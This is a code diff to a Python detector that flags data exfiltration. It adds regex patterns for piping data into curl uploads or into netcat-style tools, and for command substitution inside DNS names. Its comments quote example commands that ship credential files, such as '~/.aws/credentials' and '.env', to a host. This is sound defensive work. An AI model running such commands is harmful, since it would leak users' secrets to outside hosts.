@@ -62,6 +62,7 @@ from ._vocab import (
     _READ,
     _RISKY_PAYLOAD,
     _SECRET_NAME,
+    _SINK,
     _SUBST,
     _URL,
     _USED,
@@ -144,6 +145,11 @@ _ENCODED_VAR = re.compile(r"%7b|%24|\[")
 _IP_URL = re.compile(r"https?://\d")
 _VENDOR = re.compile(r"([a-z]+)_")
 _ONWARD = re.compile(r"\b(?:to|into|onto)\b")
+_UPLOAD = re.compile(
+    r"\|\s*(?:curl\b[^\n|]*?(?:@-|-T\s*-(?=\s|$)|--upload-file\s+-(?=\s|$))|"
+    r"(?:nc|ncat|netcat|socat|telnet)\s)"
+)
+_DNS_NAME = re.compile(r"\$\([^)\n]{1,60}\)(?:[\w.-]|\$\([^)\n]{1,60}\))*\.[a-z0-9-]+\.[a-z]{2,}\b")
 _FETCHING = re.compile(r"\s*(?:curl|wget|iwr|irm)\b")  # ``$(curl …)`` fetches, it sends nothing
 _NEW_CLAUSE = re.compile(r";| [—–] ")
 _ANAPHOR = re.compile(r"\s+(?:it|them|this|that|its|their|everything|all)\b")
@@ -230,7 +236,7 @@ def _url_data(s: str, cl: Clauses) -> Hit | None:
                     q.end(),
                 )
     for lo, hi in cl.windows(_NEEDLES["dns"]):
-        dns = _DNS.search(s, lo, hi)
+        dns = _DNS.search(s, lo, hi) or _DNS_NAME.search(s, lo, hi)
         if dns:
             return hit(
                 "exfiltration.url-data",
@@ -278,6 +284,23 @@ _SOURCE_NEEDLES = (
 
 def _egress(s: str, cl: Clauses) -> Hit | None:
     rx = _compiled()
+    # Whatever is piped into an upload leaves the machine (``git show | curl --data-binary @-``).
+    for lo, hi in cl.windows(_NET_NEEDLES):
+        for up in _UPLOAD.finditer(s, lo, hi):
+            line_end = s.find("\n", up.end())
+            line = s[up.start() : len(s) if line_end == -1 else line_end]
+            host = _SINK.search(line)
+            if (
+                host
+                and not _LOCAL.match(host.group(), host.group().find("//") + 2)
+                and _affirmed(s, up, cl.around(up.start(), up.end())[0], cl)
+            ):
+                return hit(
+                    "exfiltration.egress",
+                    "it pipes local data into an upload to another host",
+                    up.start(),
+                    up.start() + host.end(),
+                )
     # A network tool given a credential file on its command line ships that file, wherever
     # the host is (``curl -F f=@~/.aws/credentials x``, ``nc host 9 < .env``, ``scp id_rsa …``).
     for lo, hi in cl.windows(_NET_NEEDLES):
